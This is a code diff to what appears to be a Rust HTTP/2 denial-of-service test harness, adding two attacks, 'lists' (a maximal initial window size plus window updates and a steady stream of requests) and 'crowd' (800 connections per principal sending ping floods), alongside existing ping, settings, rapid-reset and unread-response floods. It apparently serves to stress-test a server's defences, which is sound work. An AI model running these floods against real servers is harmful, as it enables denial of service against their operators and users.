@@ -40,13 +40,15 @@ const REFUSED: usize = 1_500;
 const IDLE: Duration = Duration::from_secs(15);
 /// How long responses are left unread before the next connection.
 const UNREAD: Duration = Duration::from_secs(5);
+/// Connections of one principal, each with a part of what one could do.
+const CROWD: usize = 800;
 /// Between two handshakes of one attacker: 400 a second in all.
 const HELLO: Duration = Duration::from_millis(100);
 /// Watches at a time of each connection that only synchronizes.
 const SYNCS: usize = 16;
 
 /// What there is.
-pub(crate) const ATTACKS: [&str; 17] = [
+pub(crate) const ATTACKS: [&str; 19] = [
     "ping",
     "settings",
     "reset",
@@ -63,6 +65,8 @@ pub(crate) const ATTACKS: [&str; 17] = [
     "waits",
     "unread",
     "syncs",
+    "lists",
+    "crowd",
     "hello",
 ];
 
@@ -84,6 +88,7 @@ impl Attack {
             "silent" | "idle" => SILENT,
             "refused" => REFUSED,
             "bodies" => SLOW,
+            "lists" | "crowd" => CROWD,
             _ => FLOODERS,
         };
         for _ in 0..attackers {
@@ -109,8 +114,12 @@ impl Attack {
     /// Runs one connection to its end.
     async fn once(self, address: SocketAddr, token: &str) -> Outcome<()> {
         let (mut from, mut to) = TcpStream::connect(address).await?.into_split();
-        // INITIAL_WINDOW_SIZE 0: responses stay where they are.
-        let settings: &[u8] = if self.0 == "unread" { &[0, 4, 0, 0, 0, 0] } else { &[] };
+        let settings: &[u8] = match self.0 {
+            // INITIAL_WINDOW_SIZE 0: responses stay where they are.
+            "unread" => &[0, 4, 0, 0, 0, 0],
+            "lists" => &[0, 4, 0x7f, 0xff, 0xff, 0xff],
+            _ => &[],
+        };
         let speak = async {
             if self.0 != "silent" {
                 to.write_all(&[&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, settings)].concat())
@@ -127,7 +136,7 @@ impl Attack {
                         }
                         _ => {}
                     }
-                    to.write_all(&self.words(round)).await?;
+                    to.write_all(&self.words(round, token)).await?;
                 }
             }
             pending::<Outcome<()>>().await
@@ -157,6 +166,8 @@ impl Attack {
                 let wait = WaitForPoolRequest { name, health: PoolHealth::Down.into() }.encode_to_vec();
                 (0..128).flat_map(|number| request(2 * number + 1, WAIT, token, &wait)).collect()
             }
+            "lists" => frame(8, 0, 0, &[0x7f, 0, 0, 0]),
+            "crowd" => request(1, PATH, token, &[]),
             "unread" => (0..128).flat_map(|number| request(2 * number + 1, PATH, token, &[])).collect(),
             // Messages of 60,000 bytes begin.
             "bodies" => (0..128)
@@ -170,12 +181,13 @@ impl Attack {
     }
 
     /// And then over and over.
-    fn words(self, round: u32) -> Vec<u8> {
+    fn words(self, round: u32, token: &str) -> Vec<u8> {
         let streams = |frames: fn(u32) -> [Vec<u8>; 2]| {
             (0..100).flat_map(|number| frames(2 * (100 * round + number) + 1).concat()).collect()
         };
         match self.0 {
-            "ping" => frame(6, 0, 0, &[7; 8]).repeat(100),
+            "lists" => request(2 * round + 1, PATH, token, &[]),
+            "ping" | "crowd" => frame(6, 0, 0, &[7; 8]).repeat(100),
             "settings" => frame(4, 0, 0, &[]).repeat(100),
             "reset" => {
                 streams(|stream| [frame(1, 4, stream, &headers()), frame(3, 0, stream, &[0, 0, 0, 8])])
